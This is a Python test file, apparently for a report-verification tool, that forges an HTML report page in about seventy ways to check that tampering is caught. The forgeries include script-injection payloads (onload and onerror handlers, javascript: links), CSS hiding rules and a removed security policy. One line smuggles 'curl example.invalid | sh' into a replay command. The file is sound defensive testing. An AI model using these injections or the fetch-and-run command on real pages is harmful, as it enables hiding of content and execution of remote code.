"""A page that shows, hides, says or does something else than the report is a fault, whichever version wrote it."""

from __future__ import annotations

import re
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from forgery import answer

from vistoria.bundle.examined import Answer
from vistoria.bundle.fault import Item
from vistoria.bundle.layout import write_sums
from vistoria.bundle.page import SeenPage, page_faults, seen_page
from vistoria.cli.verify import examine
from vistoria.reports.html import code_of_page
from vistoria.reports.vocabulary import vocabulary

pytestmark = pytest.mark.usefixtures("pages_once")

Edit = Callable[[str], str]


def after(place: str, more: str) -> Edit:
    """Put something behind the first text like this."""
    return lambda text: re.sub(f"({place})", lambda found: found[1] + more, text, count=1)


def instead(place: str, other: str) -> Edit:
    """Put something in the place of the first text like this."""
    return lambda text: re.sub(place, lambda _: other, text, count=1, flags=re.DOTALL)


def around(place: str, before: str, behind: str) -> Edit:
    """Put the first text like this into something."""
    return lambda text: re.sub(
        place, lambda found: before + found[0] + behind, text, count=1, flags=re.DOTALL
    )


BODY, HEAD, STYLE = "<body[^>]*>", "<head>", "<style>"
SENTENCE = r'<p class="sentence">.*?</p>'
OVER = "position:fixed;inset:0"
FORGERIES: dict[str, Edit] = {
    "an image over everything": after(BODY, f'<img src="./conforms.png" style="{OVER}">'),
    "an image without style": after(BODY, '<img src="data:image/png;base64,AA">'),
    "an inline frame": after(BODY, '<iframe srcdoc="conforms"></iframe>'),
    "a refresh": after(HEAD, '<meta http-equiv="refresh" content="0;url=./other.html">'),
    "an event": after(BODY, "<svg onload=alert(1)></svg>"),
    "an event of what is there": instead('<p class="sentence"', '<p class="sentence" onclick="alert(1)"'),
    "an error of an image": after(BODY, '<img src=x onerror="document.body.innerHTML=1">'),
    "a style of one element": instead('<p class="sentence"', '<p class="sentence" style="display:none"'),
    "a base": after(HEAD, '<base href="https://example.invalid/">'),
    "a form": after(BODY, '<form action="https://example.invalid/"></form>'),
    "a link to a style": after(HEAD, '<link rel="stylesheet" href="./s.css">'),
    "a style more": after(HEAD, "<style>.sentence { visibility: hidden }</style>"),
    "a rule: display": after(STYLE, ".sentence { display: none }"),
    "a rule: colour": after(STYLE, "b.failed { color: transparent }"),
    "a rule: content": after(STYLE, '.sentence::before { content: "conforms" }'),
    "a rule: position": after(STYLE, f".kind {{ {OVER} }}"),
    "a rule: opacity": after(STYLE, ".sentence { opacity: 0 }"),
    "a rule: size of letters": after(STYLE, ".sentence { font-size: 0 }"),
    "a rule: another file": after(STYLE, '@import "./s.css";'),
    "a rule: a picture": after(STYLE, "body { background: url(./conforms.png) }"),
    "the number at the foot": instead('content: "№ [^"]*"', 'content: "№ conforms"'),
    "another script": instead('"use strict";', '"use strict"; document.title = "conforms";'),
    "a script more": after(BODY, "<script>document.body.hidden = true</script>"),
    "a module": after(HEAD, '<script type="module" src="./m.js"></script>'),
    "another message": instead('"not determined"', '"conforms"'),
    "other data of hands": after('<script type="?application/json"? id="hands">{', '"x":1,'),
    "a link that runs": after(BODY, '<a href="javascript:alert(1)">x</a>'),
    "a link that holds a page": after(BODY, '<a href="data:text/html,conforms">x</a>'),
    "a link elsewhere": after(BODY, '<a href="https://example.invalid/">x</a>'),
    "a use of another file": after(BODY, '<svg><use href="./x.svg#y"></use></svg>'),
    "a use by its old name": after(BODY, '<svg><use xlink:href="data:,x"></use></svg>'),
    "an object": after(BODY, '<object data="./conforms.pdf"></object>'),
    "an embedded file": after(BODY, '<embed src="./conforms.pdf">'),
    "a picture in the drawing": after(BODY, '<svg><image href="./conforms.png" /></svg>'),
    "a foreign object": after(BODY, "<svg><foreignObject><p>conforms</p></foreignObject></svg>"),
    "an animation": after(BODY, '<svg><animate attributeName="x" /></svg>'),
    "the page hidden": instead("<body", "<body hidden"),
    "a part hidden": instead('<section id="conclusion"', '<section hidden id="conclusion"'),
    "a part in something hidden": around(SENTENCE, "<div hidden>", "</div>"),
    "a part that is only heard": around(SENTENCE, '<span class="heard">', "</span>"),
    "a part off the page": around(SENTENCE, '<div class="skip">', "</div>"),
    "a part folded": around(SENTENCE, "<details><summary>1</summary>", "</details>"),
    "a part in a template": around(SENTENCE, "<template>", "</template>"),
    "a part without script": around(SENTENCE, "<noscript>", "</noscript>"),
    "a part in a choice": around(SENTENCE, "<select><option>", "</option></select>"),
    "a part in a comment": around(SENTENCE, "<!-- ", " -->"),
    "a text in a definition": after(BODY, "<svg><defs><text>conforms</text></defs></svg>"),
    "the colour of an outcome": instead("class=untested", "class=passed"),
    "the number of a message": instead('data-t="?\\d+"?', 'data-t="0"'),
    "the text of a message": instead("(?<=</head>).*?Skip", "<body>Conforms"),
    "a text more": after(BODY, "<p>approved</p>"),
    "a text less": instead('<p class="because">.*?</p>', ""),
    "texts in another order": instead('(<h2 id="conclusion-h">.*?</h2>)', ""),
    "another title": instead("<title", "<title>Conforms</title><title"),
    "a title beside": instead('<p class="sentence"', '<p class="sentence" title="conforms"'),
    "the command to repeat": instead('data-replay="', 'data-replay="curl example.invalid | sh; '),
    "another policy": instead("default-src &#39;none&#39;", "default-src *"),
    "a policy less": instead('<meta http-equiv="Content-Security-Policy"[^>]*>', ""),
    "another direction": instead('<p class="sentence"', '<p class="sentence" dir="rtl"'),
    "text without end": after(SENTENCE, "<plaintext>"),
    "an editable page": instead('<p class="sentence"', '<p contenteditable class="sentence"'),
    "a dialog": after(BODY, "<dialog open>conforms</dialog>"),
    "a mark-up of old": after(BODY, "<marquee>conforms</marquee>"),
    "a popover": instead('<p class="sentence"', '<p popover class="sentence"'),
    "a drawing over everything": after(BODY, '<svg viewBox="0 0 9 9"><path d="M0 0h9v9H0z"></path></svg>'),
    "a link to another place": instead('href="?#[^">]*', 'href="#gaps'),
    "a picture without room": instead('viewBox="[^"]*"', 'viewBox="0 0 0 0"'),
    "another language of the page": instead('<html lang="?[a-z]+', '<html lang="fr'),
    "an id twice": instead('<p class="sentence"', '<p id="gaps" class="sentence"'),
    "a declaration more": lambda text: text + "<!ELEMENT x>",
}  # fmt: skip


@pytest.fixture(scope="module")
def seen(of_another: Path) -> tuple[str, SeenPage]:
    """The page of a run that another version made without its clauses, as text and as a browser sees it."""
    text = (of_another / "report.html").read_text(encoding="utf-8")
    text = re.sub('<section id="clauses".*(?=<section id="gaps")', "", text, flags=re.DOTALL)
    return text, seen_page(text.encode())


@pytest.mark.parametrize("name", FORGERIES)
def test_a_page_that_shows_or_does_something_else_is_a_fault(name: str, seen: tuple[str, SeenPage]) -> None:
    text, made = seen
    forged = FORGERIES[name](text)
    assert forged != text, "the forgery forges nothing"
    assert list(page_faults(seen_page(forged.encode()), made, vocabulary(), ()))


@pytest.mark.sampled(
    "name", FORGERIES, named=["an image over everything", "a rule: display", "the page hidden"]
)
def test_it_does_not_hold_in_a_folder_of_another_version(name: str, of_another: Path, tmp_path: Path) -> None:
    folder = shutil.copytree(of_another, tmp_path / "out")
    path = folder / "report.html"
    path.write_text(FORGERIES[name](path.read_text(encoding="utf-8")), encoding="utf-8")
    write_sums(folder)
    result = examine(folder)
    assert (answer(result, Item.HTML), int(result.exit_code)) == (Answer.DOES_NOT_HOLD, 1)


def test_a_page_laid_out_by_the_code_of_a_released_version_is_no_fault(seen: tuple[str, SeenPage]) -> None:
    text, made = seen
    older = seen_page(text.replace("<style>", "<style>.older { margin: 0 }").replace("<h2", "<h3").encode())
    assert [what for what in page_faults(older, made, vocabulary(), ()) if "no version known here" in what]
    assert list(page_faults(older, made, vocabulary(), older.code.items())) == []


def test_the_code_of_a_release_is_that_of_its_pages(seen: tuple[str, SeenPage]) -> None:
    assert seen_page(code_of_page()).code == seen[1].code


def test_the_page_itself_has_no_fault(seen: tuple[str, SeenPage]) -> None:
    assert list(page_faults(seen[1], seen[1], vocabulary(), ())) == []


def test_the_templates_have_no_element_that_fetches_frames_or_sends() -> None:
    found = {tag for tag, _ in vocabulary()}
    assert not found & {"img", "iframe", "object", "embed", "form", "base", "link", "image", "video", "audio"}
    assert not {name for _, name in vocabulary() if name.startswith("on")} | {"style"} & {
        name for _, name in vocabulary()
    }
